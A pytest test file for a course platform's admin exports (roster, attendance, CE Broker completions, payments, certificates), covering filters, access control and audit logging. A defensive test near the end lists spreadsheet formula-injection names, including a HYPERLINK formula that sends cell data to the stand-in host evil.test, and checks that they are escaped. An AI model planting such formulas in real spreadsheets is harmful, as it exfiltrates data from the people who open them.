"""Exports, CSV and XLSX, parsed back: roster, attendance, completions in CE Broker's layout
(and the partial-credit variant), payments by month, certificates; filters; only registrars;
every export logged."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from certification.programs import certificate_issue_if_due
from courses.models import CEUApproval, Enrollment, Payment, Refund
from tests.certification.helpers import course_completed, pt_license

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen_today")]


@pytest.fixture
def operations_data(learner, other_learner, instructor, program):
    dn1 = course_completed(learner, instructor, "DN-1", dt.date(2026, 3, 14))
    CEUApproval.objects.create(
        course=dn1.offering.course, approving_body="Virginia Board", jurisdiction="VA",
        approval_number="VA-DN1-2026", hours=27,
    )  # fmt: skip
    dn2 = course_completed(learner, instructor, "DN-2", dt.date(2026, 9, 12), city="Denver")
    pt_license(learner)
    paid = Payment.objects.create(
        enrollment=dn1, amount_cents=89500, currency="usd", status="succeeded"
    )
    Payment.objects.create(enrollment=dn2, amount_cents=89500, currency="usd", status="succeeded")
    Refund.objects.create(payment=paid, amount_cents=44750, currency="usd", source="override",
                          reason="Goodwill", status="succeeded")  # fmt: skip
    Enrollment.objects.create(learner=other_learner, offering=dn1.offering, status="incomplete")
    pt_license(other_learner)
    return certificate_issue_if_due(learner_id=learner.pk, program_id=program.pk)


def _csv(client, **params) -> list[list[str]]:
    response = client.get("/admin/exports/", {"file_format": "csv", **params})
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.getvalue().decode())))


@pytest.fixture
def xlsx(client, django_capture_on_commit_callbacks):
    """An XLSX export as a registrar gets it: asked for, built by the worker, downloaded from
    its page."""

    def export(**params):
        with django_capture_on_commit_callbacks(execute=True):
            asked = client.get("/admin/exports/", {"file_format": "xlsx", **params})
        assert "Your export is ready" in client.get(asked["Location"]).content.decode()
        download = client.get(asked["Location"] + "download/")
        return load_workbook(io.BytesIO(download.getvalue())).active

    return export


def test_completions_follow_ce_brokers_layout(client, registrar, operations_data, learner):
    client.force_login(registrar)

    rows = _csv(client, report="completions", course="DN-1")

    assert rows == [
        [
            "license number",
            "state",
            "profession code",
            "completion date",
            "course tracking number",
            "hours",
        ],
        [f"0101-{learner.pk}", "VA", "PT", "03/16/2026", "VA-DN1-2026", "27"],
    ]


def test_the_partial_credit_variant_gives_incomplete_learners_their_hours(
    client, registrar, operations_data, other_learner
):
    client.force_login(registrar)

    rows = _csv(client, report="completions_partial", course="DN-1")

    assert [f"0101-{other_learner.pk}", "VA", "PT", "03/16/2026", "VA-DN1-2026", "0"] in rows
    assert len(rows) == 3


def test_payments_by_month_net_of_refunds(client, registrar, operations_data):
    client.force_login(registrar)

    rows = _csv(client, report="payments")

    assert rows == [["month", "currency", "payments", "received", "refunded", "net"],
                    ["2026-11", "USD", "2", "1790.00", "447.50", "1342.50"]]  # fmt: skip


def test_amounts_are_numbers_in_their_currency_in_xlsx(client, registrar, operations_data, xlsx):
    client.force_login(registrar)

    sheet = xlsx(report="payments")
    amounts = [sheet.cell(row=2, column=column) for column in (4, 5, 6)]
    assert [cell.value for cell in amounts] == [1790, 447.5, 1342.5]
    assert {(cell.data_type, cell.number_format) for cell in amounts} == {("n", '"$"#,##0.00')}


def test_roster_attendance_and_certificates_in_xlsx(
    client, registrar, operations_data, learner, xlsx
):
    client.force_login(registrar)

    for report, expected in [("roster", "DN-1"), ("certificates", "CDN-2026-000001")]:
        sheet = xlsx(report=report)
        values = [[cell.value for cell in row] for row in sheet.iter_rows()]
        assert expected in values[1]
    roster = _csv(client, report="roster", course="DN-2")
    assert roster[1][4] == "Jordan Avery Lee" and len(roster) == 2


def test_filters_by_state_and_dates(client, registrar, operations_data):
    client.force_login(registrar)

    assert len(_csv(client, report="roster", start="2026-09-01")) == 2  # DN-2 only
    assert len(_csv(client, report="certificates", state="CO")) == 1  # header only
    response = client.get(
        "/admin/exports/",
        {"report": "roster", "file_format": "csv", "start": "2026-10-01", "end": "2026-09-01"},
    )
    assert "The end of the range is before its start." in response.content.decode()


def test_each_export_is_logged(client, registrar, operations_data):
    client.force_login(registrar)

    _csv(client, report="roster", course="DN-1")

    entry = ModelLogEntry.objects.get(action="dn.export")
    assert entry.user == registrar
    assert entry.data == {
        "report": "roster",
        "format": "csv",
        "rows": 2,
        "personal_data": True,
        "filters": {"course": "DN-1"},
    }


@pytest.mark.parametrize("persona", ["learner", "instructor"])
def test_only_registrars_export(client, request, operations_data, persona):
    client.force_login(request.getfixturevalue(persona))

    response = client.get("/admin/exports/", {"report": "roster", "file_format": "csv"})

    assert response.status_code in (302, 403)
    assert not ModelLogEntry.objects.filter(action="dn.export").exists()


def test_attendance_per_day(client, registrar, instructor, learner):
    from courses.services.roster import roster_save
    from tests.factories import catalog_offering

    offering = catalog_offering(
        first_day=dt.date(2026, 11, 20), instructors=[instructor], status="closed"
    )
    seat = Enrollment.objects.create(learner=learner, offering=offering, status="confirmed")
    day = offering.days.order_by("date").first()
    roster_save(
        day_id=day.pk, hours={seat.pk: Decimal("7.5")}, recorded_by=instructor, sign_off=True
    )
    client.force_login(registrar)

    rows = _csv(client, report="attendance")

    assert rows[1] == [
        "DN-1",
        str(offering.pk),
        "2026-11-20",
        learner.get_full_name(),
        "7.5",
        "9",
        "yes",
    ]


def test_registrars_browse_and_filter_the_audit_log(client, registrar, operations_data):
    client.force_login(registrar)
    _csv(client, report="certificates")

    page = client.get("/admin/reports/site-history/", {"action": "dn.export"})

    assert page.status_code == 200
    assert "Data exported" in page.content.decode()


HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_never_becomes_a_formula_in_csv_or_xlsx(
    client, registrar, operations_data, learner, name, xlsx
):
    from certification.models import Certificate
    from learners.models import LearnerProfile

    LearnerProfile.objects.filter(user=learner).update(legal_name=name)
    Certificate.objects.filter(pk=operations_data.pk).update(holder_name=name)
    client.force_login(registrar)

    for report, column in [("roster", 4), ("certificates", 1)]:
        rows = _csv(client, report=report)
        assert rows[1][column] == f"'{name}"
        sheet = xlsx(report=report)
        cell = sheet.cell(row=2, column=column + 1)
        # XML reads a carriage return back as a line feed; the cell is text either way.
        assert (cell.value, cell.data_type) == (name.replace("\r", "\n"), "s")
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_numbers_stay_numbers_in_both_formats(client, registrar, operations_data, xlsx):
    client.force_login(registrar)

    rows = _csv(client, report="payments")
    sheet = xlsx(report="payments")

    assert rows[1][2] == "2"  # a count, not "'2"
    assert (sheet.cell(row=2, column=3).value, sheet.cell(row=2, column=3).data_type) == (2, "n")
    roster = _csv(client, report="roster", course="DN-1")
    assert roster[1][1].isdigit()  # the offering's number, unquoted


# Every report, with each filter, as the buffered export wrote it before exports streamed
# (recorded from that code on this fixture; ids as placeholders; amounts since written as plain
# decimals, issue 16).
BEFORE_STREAMING = Path(__file__).with_name("exports_before_streaming.json")


def test_every_report_streams_exactly_what_the_buffered_export_wrote(
    client, registrar, operations_data, learner, other_learner
):
    places = {"{learner}": str(learner.pk), "{other}": str(other_learner.pk)}
    for seat in Enrollment.objects.filter(learner=learner).select_related("offering__course"):
        code = seat.offering.course.code.replace("-", "").lower()  # DN-1: {dn1}
        places["{" + code + "}"] = str(seat.offering_id)
    client.force_login(registrar)

    for key, before in json.loads(BEFORE_STREAMING.read_text()).items():
        report, params = key.split("|")
        response = client.get(
            "/admin/exports/", {"report": report, "file_format": "csv", **json.loads(params)}
        )
        for placeholder, value in places.items():
            before = before.replace(placeholder, value)
        assert response.streaming and response.getvalue().decode() == before, key
